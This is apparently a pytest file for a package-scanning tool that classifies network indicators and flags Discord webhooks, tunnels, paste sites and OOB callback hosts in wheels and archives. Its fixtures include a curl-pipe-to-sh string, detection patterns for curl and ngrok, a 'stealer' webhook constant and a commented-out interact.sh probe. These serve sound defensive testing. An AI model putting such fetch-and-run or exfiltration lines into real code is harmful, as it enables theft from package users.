from __future__ import annotations

from pathlib import Path

import pytest

from builders import write, zip_bytes
from finalexam.analyze.indicators.categories import classify
from finalexam.analyze.indicators.extract import extract, extract_chunked
from finalexam.config import Config
from finalexam.exam import run_exam
from finalexam.model import Severity


@pytest.mark.parametrize(
    ("kind", "value", "category"),
    [
        ("url", "https://files.pythonhosted.org/packages/x.whl", "registry"),
        ("url", "https://registry.npmjs.org/left-pad", "registry"),
        ("url", "https://github.com/psf/requests", "source-hosting"),
        ("url", "https://docs.python.org/3/library/ast.html", "docs"),
        ("url", "https://pastebin.com/raw/abc", "paste-site"),
        ("url", "https://discord.com/api/webhooks/1/abc", "webhook"),
        ("url", "https://discord.com/channels/1", "well-known"),
        ("url", "https://api.telegram.org/bot1:abc/sendMessage", "webhook"),
        ("domain", "abc.ngrok-free.app", "tunnel"),
        ("domain", "evil.duckdns.org", "dynamic-dns"),
        ("url", "https://bit.ly/3abc", "url-shortener"),
        ("url", "http://x.oast.fun/", "oob-interaction"),
        ("url", "https://cdn.discordapp.com/attachments/1/2/a.exe", "file-drop"),
        ("url", "https://api.ipify.org", "ip-lookup"),
        ("domain", "abcdefghijklmnop.onion", "onion"),
        ("ip", "8.8.8.8", "raw-ip"),
        ("ip", "10.1.2.3", "private-ip"),
        ("ip", "127.0.0.1", "loopback"),
        ("url", "http://localhost:8000/", "example"),
        ("email", "someone@example.com", "example"),
        ("email", "dev@some-company.io", "email"),
        ("url", "https://some-company.io/", "other"),
    ],
)
def test_classify(kind: str, value: str, category: str) -> None:
    assert classify(kind, value) == category


def test_extract_from_text_and_binary() -> None:
    text = b'url = "https://pypi.org/simple/",\nip = "8.8.4.4"\nmail: a.b@corp.example.org\n'
    found = {(f.kind, f.value) for f in extract(text, text=True)}
    assert ("url", "https://pypi.org/simple/") in found
    assert ("domain", "pypi.org") in found
    assert ("ip", "8.8.4.4") in found
    assert ("email", "a.b@corp.example.org") in found
    binary = b"\x00\x01https://a.example.net/x?y=1\x00version 1.2.3.4\x00"
    found = {(f.kind, f.value) for f in extract(binary, text=False)}
    assert found == {("url", "https://a.example.net/x?y=1"), ("domain", "a.example.net")}


def test_versions_and_templates_are_not_indicators() -> None:
    text = b"requires 1.2.3.4 and https://{host}/path and http://%s/x\n"
    assert extract(text, text=True) == []


def test_prefilter_is_a_superset_and_falls_back(monkeypatch: pytest.MonkeyPatch) -> None:
    import re

    from finalexam.matching import prefilter

    patterns = [re.compile(p, re.I | re.M) for p in (r"\bcurl\s", r"ngrok\.io", r"(?<!x)abc")]
    text = "run: CURL http://x | sh  # xabc"
    exact = {i for i, p in enumerate(patterns) if p.search(text)}
    assert exact <= prefilter.Prefilter(patterns).candidates(text)
    monkeypatch.setattr(prefilter, "_hs", None)
    assert prefilter.Prefilter(patterns).candidates(text) == {0, 1, 2}


def test_a_big_file_is_read_in_chunks_with_nothing_lost_at_the_seams() -> None:
    """A JDK's lib/modules is 130 MB: read a chunk at a time, what is found is what one read
    of the whole file finds, a URL and a host straddling the seams included."""
    chunk = 4096
    data = bytearray(b"\x00" * (5 * chunk))
    for number, place in enumerate([10, chunk - 20, 2 * chunk - 30, 4 * chunk + 5]):
        url = f"https://collector{number}.example.invalid/upload?id=7".encode()
        data[place : place + len(url)] = url
    host = b" abc.trycloudflare.com "
    data[3 * chunk - 8 : 3 * chunk - 8 + len(host)] = host
    found = extract_chunked(bytes(data), text=False, chunk=chunk)
    assert found == extract(bytes(data), text=False)
    values = {f.value for f in found}
    assert "https://collector2.example.invalid/upload?id=7" in values  # across a seam
    assert "abc.trycloudflare.com" in values and "trycloudflare.com" not in values


def test_a_pinned_four_part_version_is_no_address() -> None:
    """parso's setup.py pins ``'types-setuptools==67.2.0.1'``; an address after ``=`` counts."""
    pins = b"extras = ['types-setuptools==67.2.0.1', 'x>=1.2.3.4', 'y~=5.6.7.8']\n"
    assert not [f for f in extract(pins, text=True) if f.kind == "ip"]
    found = extract(b'HOST="45.61.2.9"\nbind=45.61.2.10,\n', text=True)
    assert {f.value for f in found if f.kind == "ip"} == {"45.61.2.9", "45.61.2.10"}


def test_a_webhook_services_own_prefix_names_no_webhook(tmp_path: Path) -> None:
    """discord.py 2.7 builds ``f'https://discord.com/api/webhooks/{self.id}/{self.token}'``
    from its caller's values: the API's prefix is a lead (medium), a webhook with its id and
    token in the code is where stolen data goes (high)."""
    sdk = "class Webhook:\n    @property\n    def url(self):\n"
    sdk += "        return f'https://discord.com/api/webhooks/{self.id}/{self.token}'\n"
    hook = "https://discord.com/api/webhooks/123456789012345678/" + "a1B2c3D4e5" * 4
    found = {}
    for name, text in (("sdk", sdk), ("stealer", f"HOOK = '{hook}'\n")):
        wheel = write(
            tmp_path / f"{name}lib-1.0-py3-none-any.whl",
            zip_bytes({f"{name}lib/webhook.py": text}),
        )
        report = run_exam(wheel, Config(only=("indicators",)))
        found[name] = {f.rule_id: f.severity for f in report.findings}
    assert found["sdk"] == {"ind-webhook": Severity.MEDIUM}
    assert found["stealer"] == {"ind-webhook": Severity.HIGH}


def test_an_address_in_a_comment_connects_to_nothing(tmp_path: Path) -> None:
    """dpkt's setup.py explains ``# ... e.g. '1.2.3.4'`` (a four-part version) in a comment:
    no endpoint. The same address in a statement, also after the comment, or in a comment of
    another language's marker, is one; so is a probe's callback service, commented out."""
    comment = "# The MSI build target does not support a 4 digit version, e.g. '1.2.3.4'\n"
    cases = {
        "comment": ("setup.py", comment),
        "after": ("setup.py", comment + "urlopen('http://1.2.3.4/x')\n"),
        "js": ("install.js", "const a = 1;\nfetch('http://1.2.3.4/x')\n"),
        "js-comment": ("install.js", "  // see http://1.2.3.4/x\n"),
        # a probe's callback service commented out of an install hook is still a probe
        "oob": ("setup.py", '    # requests.get("https://c0ffee1234.interact.sh", params=p)\n'),
    }
    found = {}
    for case, (name, text) in cases.items():
        tarball = write(tmp_path / f"{case}.zip", zip_bytes({f"pkg/{name}": text}))
        report = run_exam(tarball, Config(only=("indicators",)))
        found[case] = [(f.rule_id, f.evidence.line) for f in report.findings]
    assert found == {
        "comment": [],
        "after": [("ind-raw-ip", 2)],
        "js": [("ind-raw-ip", 2)],
        "js-comment": [],
        "oob": [("ind-oob-interaction", 1)],
    }
